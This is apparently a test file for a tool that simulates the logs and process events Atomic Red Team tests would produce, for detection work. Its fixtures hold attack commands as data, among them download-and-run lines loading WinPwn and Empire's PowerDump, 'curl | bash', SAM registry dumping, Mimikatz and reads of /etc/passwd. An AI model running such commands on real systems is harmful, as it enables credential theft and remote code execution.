/**
 * Loaded code: the payload store and the script blocks, processes and notes of scripts a test
 * downloads, imports, dot-sources or runs with -File. Fixtures are written per case in a temp folder.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { simulateTest } from '../../src/lib/simulate/harness.ts';
import { PayloadError, PayloadStore } from '../../src/lib/simulate/payload-store.ts';
import { scriptBlockParts } from '../../src/lib/simulate/scriptblock.ts';
import { topLevelStatements } from '../../src/lib/simulate/loaded.ts';
import { removeTemp, tempDir } from '../safety/helpers.ts';

afterAll(removeTemp);

const WINPWN = 'https://raw.githubusercontent.com/S3cur3Th1sSh1t/WinPwn/121dcee26a7aca368821563cbe92b2b5638c5773/WinPwn.ps1';
const POWERDUMP =
  'https://raw.githubusercontent.com/BC-SECURITY/Empire/c1bdbd0fdafd5bf34760d5b158dfd0db2bb19556/data/module_source/credentials/Invoke-PowerDump.ps1';

const FISH = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1059.004/src/echo-art-fish.sh';

function fixture(): { payloads: string; atomics: string } {
  const root = tempDir('payloads');
  const payloads = path.join(root, 'payloads');
  const atomics = path.join(root, 'atomics');
  const put = (file: string, text: string) => {
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
  };
  put(
    path.join(payloads, 'raw.githubusercontent.com/WinPwn.ps1'),
    'function samfile {\n  reg save hklm\\sam C:\\temp\\sam\n}\n# loaded\nWrite-Host "WinPwn loaded"\n',
  );
  put(path.join(payloads, 'raw.githubusercontent.com/PowerDump.ps1'), 'function Invoke-PowerDump {\n  $x = "DumpHashes"\n}\n');
  put(path.join(payloads, 'raw.githubusercontent.com/echo-art-fish.sh'), '#!/bin/bash\necho fish\nwhoami\n');
  put(path.join(payloads, 'modules/ATH/Windows/ATH.psm1'), 'Get-ChildItem "$PSScriptRoot\\TestHarnesses" | ForEach-Object { . $_.FullName }');
  put(
    path.join(payloads, 'modules/ATH/Windows/TestHarnesses/Mshta.ps1'),
    'function Invoke-ATHHTMLApplication {\n  [CmdletBinding()]\n  param()\n  mshta.exe about:blank\n}\n',
  );
  put(
    path.join(payloads, 'index.json'),
    JSON.stringify({
      [WINPWN]: { file: 'raw.githubusercontent.com/WinPwn.ps1', sha256: 'x', bytes: 1, source: 'S3cur3Th1sSh1t/WinPwn@121dcee:WinPwn.ps1' },
      [POWERDUMP]: { file: 'raw.githubusercontent.com/PowerDump.ps1', sha256: 'x', bytes: 1, source: 'x' },
      [FISH]: { file: 'raw.githubusercontent.com/echo-art-fish.sh' },
      modules: {
        ATH: {
          dir: 'modules/ATH',
          files: [{ file: 'modules/ATH/Windows/TestHarnesses/Mshta.ps1' }, { file: 'modules/ATH/Windows/ATH.psm1' }],
          functions: { 'Invoke-ATHHTMLApplication': 'modules/ATH/Windows/TestHarnesses/Mshta.ps1' },
        },
      },
      skipped: [],
      unresolved: [],
    }),
  );
  put(
    path.join(atomics, 'T1218.004', 'src', 'InstallUtilTestHarness.ps1'),
    '# harness\nfunction Invoke-BuildAndInvokeInstallUtilAssembly { }\nStart-Process notepad.exe\n',
  );
  put(path.join(atomics, 'T1059.003', 'src', 'run.bat'), '@echo off\nwhoami /groups\nnet localgroup administrators\n');
  put(path.join(atomics, 'T1059.004', 'src', 'x.sh'), '#!/bin/sh\nuname -a\ncat /etc/passwd\n');
  return { payloads, atomics };
}

const { payloads, atomics } = fixture();
const store = PayloadStore.open(payloads, atomics);
const ps = (command: string, extra: Partial<Parameters<typeof simulateTest>[0]> = {}) =>
  simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: command, ...extra }, store);
const blocks = (events: ReturnType<typeof ps>['events']) => events.filter((e) => e.fields['EventID'] === 4104);
const images = (events: ReturnType<typeof ps>['events']) =>
  events.filter((e) => e.fields['EventID'] === 1).map((e) => String(e.fields['Image']).split('\\').pop());

describe('payload store', () => {
  it('maps URLs to files and reads atomics src/ files without regard to case', () => {
    expect(store.url(WINPWN)?.file).toBe('payloads/raw.githubusercontent.com/WinPwn.ps1');
    expect(store.url('https://example.com/none.ps1')).toBeUndefined();
    expect(store.atomicsFile('t1218.004\\SRC\\installutiltestharness.ps1')?.text).toContain('Start-Process');
    expect(store.moduleOf('invoke-athhtmlapplication')).toBe('ATH');
  });
  it('rejects a folder without a valid index with a clear error', () => {
    expect(() => PayloadStore.open(atomics, undefined)).toThrow(PayloadError);
    const bad = tempDir('payloads-bad');
    writeFileSync(path.join(bad, 'index.json'), JSON.stringify({ 'https://x/y.ps1': { sha256: 'no file key' } }));
    expect(() => PayloadStore.open(bad, undefined)).toThrow(/invalid index/);
  });
  it('never reads outside the payloads folder', () => {
    const evil = tempDir('payloads-evil');
    writeFileSync(path.join(evil, 'index.json'), JSON.stringify({ 'https://x/y.ps1': { file: '../../../etc/passwd' } }));
    expect(PayloadStore.open(evil, undefined).url('https://x/y.ps1')).toBeUndefined();
  });
});

describe('script blocks as PowerShell splits them', () => {
  it('logs text under 20,000 characters as one block and larger text in parts of 15,000', () => {
    expect(scriptBlockParts('x'.repeat(19_999)).map((p) => p.total)).toEqual([1]);
    const parts = scriptBlockParts('x'.repeat(40_000));
    expect(parts.map((p) => [p.number, p.total, p.text.length])).toEqual([
      [1, 3, 15_000],
      [2, 3, 15_000],
      [3, 3, 10_000],
    ]);
  });
  it('numbers the parts of a loaded script and names the file and line they start on', () => {
    const big = `${'# filler line\n'.repeat(2000)}Invoke-Mimikatz -DumpCreds\n`;
    const dir = tempDir('payloads-big');
    writeFileSync(path.join(dir, 'big.ps1'), big);
    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/big.ps1': { file: 'big.ps1' } }));
    const run = simulateTest(
      { guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: "IEX (iwr 'https://h/big.ps1')" },
      PayloadStore.open(dir, undefined),
    );
    const loaded = blocks(run.events).filter((e) => e.source);
    expect(loaded.map((e) => [e.fields['MessageNumber'], e.fields['MessageTotal'], e.source?.line])).toEqual([
      [1, 2, 1],
      [2, 2, 1072],
    ]);
    expect(String(loaded[1]!.fields['ScriptBlockText'])).toContain('Invoke-Mimikatz');
  });
});

describe('loaded code', () => {
  it('download-and-run (T1003.002 #7): the downloaded script is logged and its top level runs, its functions do not', () => {
    const run = ps(`iex(new-object net.webclient).downloadstring('${WINPWN}')\nsamfile -consoleoutput -noninteractive`);
    const loaded = blocks(run.events).find((e) => e.source);
    expect(loaded?.fields['ScriptBlockText']).toContain('function samfile');
    expect(loaded?.fields['Path']).toBe('');
    expect(loaded?.source).toEqual({ file: 'payloads/raw.githubusercontent.com/WinPwn.ps1', line: 1 });
    expect(images(run.events)).not.toContain('reg.exe');
    expect(run.notes).toEqual([]);
  });
  it("a payload loaded by many tests (WinPwn: ~40) is split once: the second test reuses the store's split and logs the same", () => {
    const command = `iex(new-object net.webclient).downloadstring('${WINPWN}')`;
    const first = ps(command);
    const derived = store.url(WINPWN)!.derived;
    expect(derived.topLevel).toContain('Write-Host "WinPwn loaded"');
    expect(derived.topLevel).not.toContain('reg save');
    expect(derived.scriptBlocks?.map((b) => b.line)).toEqual([1]);
    const { topLevel, scriptBlocks } = derived;
    const second = ps(command);
    expect(store.url(WINPWN)!.derived.topLevel).toBe(topLevel);
    expect(store.url(WINPWN)!.derived.scriptBlocks).toBe(scriptBlocks);
    expect(second.events).toEqual(first.events);
  });
  it('a download the store lacks is noted, not guessed', () => {
    const run = ps('IEX (IWR https://raw.githubusercontent.com/kfallahi/UnderlayCopy/37f2e9b/UnderlayCopy.ps1 -UseBasicParsing)');
    expect(run.notes).toEqual(['payload not available: https://raw.githubusercontent.com/kfallahi/UnderlayCopy/37f2e9b/UnderlayCopy.ps1']);
    expect(blocks(run.events).filter((e) => e.source)).toEqual([]);
  });
  it('Import-Module of a file a prerequisite downloaded into ExternalPayloads (T1003.002 #4)', () => {
    const run = ps('Import-Module "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"\nInvoke-PowerDump', {
      dependencies: [
        { getPrereqCommand: `Invoke-Webrequest -Uri "${POWERDUMP}" -UseBasicParsing -OutFile "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"` },
      ],
    });
    const loaded = blocks(run.events).find((e) => e.source);
    expect(loaded?.fields['ScriptBlockText']).toContain('DumpHashes');
    expect(loaded?.fields['Path']).toBe('C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\PowerDump.ps1');
  });
  it('a prerequisite whose URL is followed by \\" (a cmd-escaped quote) downloads that URL: the script is found in the store', () => {
    const run = ps('Import-Module "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"', {
      dependencies: [
        { getPrereqCommand: `powershell -c "Invoke-WebRequest \\"${POWERDUMP}\\" -OutFile PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"` },
      ],
    });
    expect(run.notes).toEqual([]);
    expect(blocks(run.events).find((e) => e.source)?.source?.file).toBe('payloads/raw.githubusercontent.com/PowerDump.ps1');
  });
  it('dot-sourcing a script of the atomics folder (T1218.004): its top-level statements start processes', () => {
    const run = ps('. "PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1"');
    expect(blocks(run.events).find((e) => e.source)?.source?.file).toBe('atomics/T1218.004/src/InstallUtilTestHarness.ps1');
    expect(images(run.events)).toContain('notepad.exe');
  });
  it('powershell -File from cmd runs the file', () => {
    const run = simulateTest(
      {
        guid: 'g',
        platforms: ['windows'],
        executor: 'command_prompt',
        elevationRequired: false,
        commandResolved: 'powershell.exe -ep bypass -File PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1',
      },
      store,
    );
    expect(blocks(run.events).map((e) => e.fields['Path'])).toContain(
      'PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1'.replace('PathToAtomicsFolder', 'C:\\AtomicRedTeam\\atomics'),
    );
  });
  it('a missing file of the atomics folder is noted', () => {
    expect(ps('Import-Module "PathToAtomicsFolder\\T1234\\src\\gone.ps1"').notes).toEqual(['payload not available: PathToAtomicsFolder\\t1234\\src\\gone.ps1']);
  });
  it('an installed module is auto-loaded for its cmdlet: the loader, then each script it dot-sources', () => {
    const run = ps('Invoke-ATHHTMLApplication -HTAFilePath Test.hta -ScriptEngine JScript');
    expect(
      blocks(run.events)
        .filter((e) => e.source)
        .map((e) => e.source!.file),
    ).toEqual(['payloads/modules/ATH/Windows/ATH.psm1', 'payloads/modules/ATH/Windows/TestHarnesses/Mshta.ps1']);
    expect(blocks(run.events).at(-1)?.fields['Path']).toBe('C:\\Program Files\\WindowsPowerShell\\Modules\\ATH\\Windows\\TestHarnesses\\Mshta.ps1');
  });
  it('without a store nothing is loaded, and downloads are noted', () => {
    const run = simulateTest({
      guid: 'g',
      platforms: ['windows'],
      executor: 'powershell',
      elevationRequired: false,
      commandResolved: `IEX (New-Object Net.WebClient).DownloadString('${WINPWN}')`,
    });
    expect(run.notes).toEqual([`payload not available: ${WINPWN}`]);
  });
});

describe('batch files and shell scripts', () => {
  const cmd = (command: string) =>
    simulateTest({ guid: 'g', platforms: ['windows'], executor: 'command_prompt', elevationRequired: false, commandResolved: command }, store);
  const sh = (command: string) => simulateTest({ guid: 'g', platforms: ['linux'], executor: 'sh', elevationRequired: false, commandResolved: command }, store);
  const linux = (events: ReturnType<typeof sh>['events']) =>
    events.filter((e) => e.logsource.category === 'process_creation').map((e) => String(e.fields['Image']));
  it('a .bat file of the atomics folder runs line by line in its cmd.exe (T1016 #7 style), each process naming the line', () => {
    const run = cmd('"PathToAtomicsFolder\\T1059.003\\src\\run.bat"');
    const whoami = run.events.find((e) => String(e.fields['Image']).endsWith('whoami.exe'));
    expect(whoami?.fields['CommandLine']).toBe('whoami /groups');
    expect(String(whoami?.fields['ParentCommandLine'])).toContain('run.bat');
    expect(whoami?.source).toEqual({ file: 'atomics/T1059.003/src/run.bat', line: 2 });
    expect(images(run.events)).toContain('net1.exe');
    expect(store.atomicsFile('T1059.003/src/run.bat')!.derived.lines).toEqual(['@echo off', 'whoami /groups', 'net localgroup administrators', '']);
  });
  it('curl URL | bash runs the downloaded script (T1059.004 #2)', () => {
    const run = sh(`curl -sS ${FISH} | bash`);
    expect(linux(run.events)).toEqual(['/bin/sh', '/usr/bin/curl', '/bin/bash', '/usr/bin/whoami']);
  });
  it('sh with a script file of the atomics folder runs it (T1123 #3 style)', () => {
    expect(linux(sh('sh PathToAtomicsFolder/T1059.004/src/x.sh /tmp/out 5').events)).toEqual(['/bin/sh', '/bin/sh', '/usr/bin/uname', '/usr/bin/cat']);
  });
  it('a script the store lacks is noted', () => {
    expect(sh('curl -s https://example.org/x.sh | sh').notes).toEqual(['payload not available: https://example.org/x.sh']);
  });
});

describe('top-level statements of a loaded script', () => {
  it('drops function, filter and class bodies and the param block, keeping what runs on load', () => {
    const text = [
      '[CmdletBinding()]',
      'param([string]$Target = "net user")',
      'function Get-X { param($a) if ($a) { whoami } "}" }',
      "filter F { '{' }",
      'class C { [void] M() { calc.exe } }',
      'Write-Host "loaded" # function y { }',
      '<# function z { } #>',
      'Set-Alias x Get-X',
    ].join('\n');
    const top = topLevelStatements(text);
    expect(top).not.toMatch(/whoami|calc|net user/);
    expect(top).toContain('Write-Host "loaded"');
    expect(top).toContain('Set-Alias x Get-X');
  });
});

describe('hostile stores', () => {
  it('does not follow a symbolic link out of the store', async () => {
    const { symlinkSync } = await import('node:fs');
    const dir = tempDir('payloads-link');
    symlinkSync('/etc/hostname', path.join(dir, 'x.ps1'));
    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/x.ps1': { file: 'x.ps1' } }));
    expect(PayloadStore.open(dir, undefined).url('https://h/x.ps1')).toBeUndefined();
  });

  it('does not read a payload through a linked folder, which the predictions cache does not hash', async () => {
    const { symlinkSync } = await import('node:fs');
    const { payloadsHash } = await import('../../src/lib/cache/predictions.ts');
    const root = tempDir('payloads-linked');
    const dir = path.join(root, 'payloads');
    mkdirSync(path.join(root, 'elsewhere'), { recursive: true });
    mkdirSync(path.join(dir, 'real'), { recursive: true });
    writeFileSync(path.join(root, 'elsewhere', 'x.ps1'), 'whoami\n');
    writeFileSync(path.join(dir, 'real', 'y.ps1'), 'hostname\n');
    symlinkSync(path.join(root, 'elsewhere'), path.join(dir, 'linked'));
    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/x.ps1': { file: 'linked/x.ps1' }, 'https://h/y.ps1': { file: 'real/y.ps1' } }));
    const store = PayloadStore.open(dir, undefined);
    expect(store.url('https://h/x.ps1')).toBeUndefined();
    expect(store.url('https://h/y.ps1')?.text).toBe('hostname\n');
    // What the store reads is what the hash covers: a change behind the link changes neither.
    const before = payloadsHash(PayloadStore.open(dir, undefined));
    writeFileSync(path.join(root, 'elsewhere', 'x.ps1'), 'net user\n');
    expect(payloadsHash(PayloadStore.open(dir, undefined))).toBe(before);
    writeFileSync(path.join(dir, 'real', 'y.ps1'), 'ipconfig\n');
    expect(payloadsHash(PayloadStore.open(dir, undefined))).not.toBe(before);
  });

  it('does not read, nor hash, the files of a linked technique src/ or bin/ folder, and hashes the bin/ files it reads', async () => {
    const { symlinkSync } = await import('node:fs');
    const { payloadsHash } = await import('../../src/lib/cache/predictions.ts');
    const root = tempDir('atomics-linked-src');
    const atomics = path.join(root, 'atomics');
    mkdirSync(path.join(root, 'outside'));
    writeFileSync(path.join(root, 'outside', 'x.ps1'), 'whoami\n');
    mkdirSync(path.join(atomics, 'T1001'), { recursive: true });
    mkdirSync(path.join(atomics, 'T1002'), { recursive: true });
    symlinkSync(path.join(root, 'outside'), path.join(atomics, 'T1001', 'src'));
    symlinkSync(path.join(root, 'outside'), path.join(atomics, 'T1002', 'bin'));
    const store = PayloadStore.open(undefined, atomics);
    expect(store.atomicsFile('T1001/src/x.ps1')).toBeUndefined();
    expect(store.atomicsFile('T1002/bin/x.ps1')).toBeUndefined();
    const linked = payloadsHash(PayloadStore.open(undefined, atomics));
    writeFileSync(path.join(root, 'outside', 'x.ps1'), 'net user\n');
    expect(payloadsHash(PayloadStore.open(undefined, atomics))).toBe(linked);

    mkdirSync(path.join(atomics, 'T1003', 'bin'), { recursive: true });
    writeFileSync(path.join(atomics, 'T1003', 'bin', 'run.bat'), 'whoami\r\n');
    expect(PayloadStore.open(undefined, atomics).atomicsFile('T1003/bin/run.bat')?.text).toBe('whoami\r\n');
    const before = payloadsHash(PayloadStore.open(undefined, atomics));
    writeFileSync(path.join(atomics, 'T1003', 'bin', 'run.bat'), 'hostname\r\n');
    expect(payloadsHash(PayloadStore.open(undefined, atomics))).not.toBe(before);
  });

  it('takes a file named src or bin, and a file name that is not UTF-8, without failing', async () => {
    const { payloadsHash } = await import('../../src/lib/cache/predictions.ts');
    const atomics = path.join(tempDir('atomics-odd'), 'atomics');
    mkdirSync(path.join(atomics, 'T1004', 'src'), { recursive: true });
    writeFileSync(path.join(atomics, 'T1004', 'bin'), 'not a folder');
    writeFileSync(Buffer.from(path.join(atomics, 'T1004', 'src', 'caf\xe9.ps1'), 'latin1'), 'whoami\n');
    writeFileSync(path.join(atomics, 'T1004', 'src', 'ok.ps1'), 'hostname\n');
    expect(() => payloadsHash(PayloadStore.open(undefined, atomics))).not.toThrow();
    const store = PayloadStore.open(undefined, atomics);
    expect(store.atomicsFile('T1004/src/ok.ps1')?.text).toBe('hostname\n');
    expect(store.atomicsFile('T1004/bin')).toBeUndefined();
  });

  it('refuses an index.json that is not a regular file (a pipe would be waited on forever)', async () => {
    const { execFileSync } = await import('node:child_process');
    const dir = tempDir('payloads-index-fifo');
    execFileSync('mkfifo', [path.join(dir, 'index.json')]);
    expect(() => PayloadStore.open(dir, undefined)).toThrow(/index\.json: not a regular file/);
  });

  it('refuses an index.json that is a symbolic link', async () => {
    const { symlinkSync } = await import('node:fs');
    const root = tempDir('payloads-index-link');
    const dir = path.join(root, 'payloads');
    mkdirSync(dir);
    writeFileSync(path.join(root, 'index.json'), '{}');
    symlinkSync(path.join(root, 'index.json'), path.join(dir, 'index.json'));
    expect(() => PayloadStore.open(dir, undefined)).toThrow(/index\.json: not a regular file \(links are not followed\)/);
  });

  it('reads payloads of a folder that is itself reached through a link', async () => {
    const { symlinkSync } = await import('node:fs');
    const root = tempDir('payloads-root-link');
    mkdirSync(path.join(root, 'store', 'sub'), { recursive: true });
    writeFileSync(path.join(root, 'store', 'sub', 'y.ps1'), 'hostname\n');
    writeFileSync(path.join(root, 'store', 'index.json'), JSON.stringify({ 'https://h/y.ps1': { file: 'sub/y.ps1' } }));
    symlinkSync(path.join(root, 'store'), path.join(root, 'payloads'));
    expect(PayloadStore.open(path.join(root, 'payloads'), undefined).url('https://h/y.ps1')?.text).toBe('hostname\n');
  });

  it('serves, and hashes, every file as it was when the store opened: a file changed during a build is not predicted under the hash of another version', async () => {
    const { payloadsHash } = await import('../../src/lib/cache/predictions.ts');
    const root = tempDir('payloads-snapshot');
    const dir = path.join(root, 'payloads');
    const atomics = path.join(root, 'atomics');
    mkdirSync(dir);
    mkdirSync(path.join(atomics, 'T1001', 'src'), { recursive: true });
    writeFileSync(path.join(dir, 'y.ps1'), 'hostname\n');
    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/y.ps1': { file: 'y.ps1' } }));
    writeFileSync(path.join(atomics, 'T1001', 'src', 'x.ps1'), 'whoami\n');
    const store = PayloadStore.open(dir, atomics);
    const hash = payloadsHash(store);
    writeFileSync(path.join(dir, 'y.ps1'), 'ipconfig\n');
    writeFileSync(path.join(atomics, 'T1001', 'src', 'x.ps1'), 'net user\n');
    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/y.ps1': { file: 'other.ps1' } }));
    expect(store.url('https://h/y.ps1')?.text).toBe('hostname\n');
    expect(store.atomicsFile('T1001/src/x.ps1')?.text).toBe('whoami\n');
    expect(payloadsHash(store)).toBe(hash);
    // A store opened now reads, and hashes, the new versions.
    const now = PayloadStore.open(dir, atomics);
    expect(now.atomicsFile('t1001\\SRC\\x.ps1')?.text).toBe('net user\n');
    expect(payloadsHash(now)).not.toBe(hash);
  });

  it('skips a folder it cannot list (a name that is not UTF-8) and goes on; the hash still sees it', async () => {
    const { payloadsHash } = await import('../../src/lib/cache/predictions.ts');
    const root = tempDir('payloads-odd-folder');
    const dir = path.join(root, 'payloads');
    const atomics = path.join(root, 'atomics');
    mkdirSync(Buffer.from(path.join(dir, 'caf\xe9'), 'latin1'), { recursive: true });
    mkdirSync(Buffer.from(path.join(atomics, 'T1001', 'src', 'caf\xe9'), 'latin1'), { recursive: true });
    writeFileSync(Buffer.from(path.join(dir, 'caf\xe9', 'x.ps1'), 'latin1'), 'whoami\n');
    writeFileSync(path.join(atomics, 'T1001', 'src', 'ok.ps1'), 'hostname\n');
    writeFileSync(path.join(dir, 'y.ps1'), 'ipconfig\n');
    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/y.ps1': { file: 'y.ps1' } }));
    const store = PayloadStore.open(dir, atomics);
    expect(store.url('https://h/y.ps1')?.text).toBe('ipconfig\n');
    expect(store.atomicsFile('T1001/src/ok.ps1')?.text).toBe('hostname\n');
    expect([...store.files].filter(([name, file]) => name.endsWith('/') && file === null)).toHaveLength(2);
    expect(payloadsHash(PayloadStore.open(dir, atomics))).toBe(payloadsHash(store));
  });

  it('keeps a binary as its digest and serves it only while unchanged; says why an index.json is refused', async () => {
    const { payloadsHash } = await import('../../src/lib/cache/predictions.ts');
    const atomics = path.join(tempDir('atomics-binary'), 'atomics');
    mkdirSync(path.join(atomics, 'T1001', 'bin'), { recursive: true });
    const exe = Buffer.from('MZ\0\0whoami', 'latin1');
    writeFileSync(path.join(atomics, 'T1001', 'bin', 'a.exe'), exe);
    writeFileSync(path.join(atomics, 'T1001', 'bin', 'b.exe'), exe);
    writeFileSync(path.join(atomics, 'T1001', 'bin', 'u16.ps1'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('whoami', 'utf16le')]));
    const store = PayloadStore.open(undefined, atomics);
    expect(store.files.get('atomics/T1001/bin/a.exe')).toMatchObject({ sha256: expect.any(String) });
    expect(store.files.get('atomics/T1001/bin/u16.ps1')).toMatchObject({ bytes: expect.any(Buffer) });
    expect(store.atomicsFile('T1001/bin/u16.ps1')?.text).toBe('whoami');
    expect(store.atomicsFile('T1001/bin/a.exe')?.text).toBe(exe.toString('utf8'));
    const hash = payloadsHash(store);
    writeFileSync(path.join(atomics, 'T1001', 'bin', 'b.exe'), Buffer.from('MZ\0\0hostname', 'latin1'));
    expect(store.atomicsFile('T1001/bin/b.exe')).toBeUndefined();
    expect(payloadsHash(store)).toBe(hash);
    expect(payloadsHash(PayloadStore.open(undefined, atomics))).not.toBe(hash);

    const dir = tempDir('payloads-binary-index');
    writeFileSync(path.join(dir, 'index.json'), Buffer.from('{\0}', 'latin1'));
    expect(() => PayloadStore.open(dir, undefined)).toThrow(/index\.json: could not be read as text of at most 16 MB/);
  });

  it('serves no file the index names outside the payloads folder', () => {
    const root = tempDir('payloads-outside');
    const dir = path.join(root, 'payloads');
    mkdirSync(dir);
    writeFileSync(path.join(root, 'secret.ps1'), 'whoami\n');
    writeFileSync(
      path.join(dir, 'index.json'),
      JSON.stringify({ 'https://h/a.ps1': { file: '../secret.ps1' }, 'https://h/b.ps1': { file: path.join(root, 'secret.ps1') } }),
    );
    const store = PayloadStore.open(dir, undefined);
    expect(store.url('https://h/a.ps1')).toBeUndefined();
    expect(store.url('https://h/b.ps1')).toBeUndefined();
  });
});

describe('GitHub pages', () => {
  it('a github.com blob URL without ?raw=true serves a page, so nothing loads and nothing is missing (T1615 #2)', () => {
    const run = ps(
      "IEX (New-Object Net.WebClient).DownloadString('https://github.com/BC-SECURITY/Empire/blob/86921fb/empire/server/data/module_source/situational_awareness/network/powerview.ps1'); Get-DomainGPO",
    );
    expect(run.events.filter((e) => e.source)).toEqual([]);
    expect(run.notes).toEqual([]);
  });
});
